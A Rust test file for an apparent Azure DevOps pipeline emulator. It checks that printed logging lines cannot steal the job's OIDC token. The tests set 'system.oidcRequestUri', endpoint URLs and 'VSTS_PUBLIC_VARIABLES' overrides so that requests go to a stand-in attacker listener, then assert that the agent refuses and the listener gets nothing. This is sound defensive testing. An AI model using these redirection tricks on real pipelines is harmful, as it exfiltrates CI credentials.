//! Printed lines that try to send the job's token to an attacker.

use patless_emulator::agent::TaskResult;
use patless_emulator::{Emulator, Scenario};

use super::{
    AGENTS, Evil, WITHOUT_PROTECTION, assert_refused, play_behind, set_endpoint, set_variable,
};

#[test]
fn the_system_connection_and_the_request_url_moved_together_get_no_job_token() {
    let system = "00000000-0000-0000-0000-000000000000";
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let own_port = emulator.azure_devops_url().port().unwrap();
    for port in [evil.port(), own_port] {
        let moved =
            |url: &str| url.replace(&format!("localhost:{own_port}"), &format!("0.0.0.0:{port}"));
        let collection = moved(emulator.azure_devops_url().as_str());
        let request = moved(emulator.oidc_request_uri().as_str());
        let lines = [
            set_endpoint(system, "field=url", &collection),
            set_variable("system.oidcRequestUri", &request),
            set_variable("system.taskDefinitionsUri", &collection),
        ];
        let played = play_behind(&emulator, WITHOUT_PROTECTION, &lines, "");
        assert_refused(&emulator, &played, "#foreign-host");
        evil.assert_got_nothing(&collection);
    }
}

#[test]
fn the_system_connection_moved_to_this_machine_gets_no_job_token() {
    let system = "00000000-0000-0000-0000-000000000000";
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let url = format!("http://127.0.0.1:{}/acme/", evil.port());
    let lines = [
        set_endpoint(system, "field=url", &url),
        set_variable("system.oidcRequestUri", &format!("{url}_apis/oidctoken")),
    ];
    let played = play_behind(&emulator, WITHOUT_PROTECTION, &lines, "");
    assert_refused(&emulator, &played, "#foreign-host");
    evil.assert_got_nothing(&url);
}

#[test]
fn a_request_url_alone_gets_no_job_token() {
    for version in AGENTS {
        let (emulator, evil) = (
            Emulator::start(Scenario::default()).unwrap(),
            Evil::listen(),
        );
        let url = format!("https://0.0.0.0:{}/acme/oidctoken", evil.port());
        for name in [
            "system.oidcRequestUri",
            "SYSTEM_OIDCREQUESTURI",
            "system oidcRequestUri",
        ] {
            let played = play_behind(&emulator, version, &[set_variable(name, &url)], "");
            assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
            assert!(emulator.requests().is_empty(), "{name}");
            evil.assert_got_nothing(name);
        }
    }
}

#[test]
fn a_list_of_names_that_a_printed_line_made_up_hides_nothing() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let url = format!("https://0.0.0.0:{}/acme/oidctoken", evil.port());
    for version in AGENTS {
        for list in ["VSTS_PUBLIC_VARIABLES", "vsts.public.variables"] {
            let lines = [
                set_variable(list, "[]"),
                set_variable("SYSTEM_OIDCREQUESTURI", &url),
            ];
            let played = play_behind(&emulator, version, &lines, "");
            assert_refused(&emulator, &played, "takes the place of");
            evil.assert_got_nothing(list);
        }
    }
}
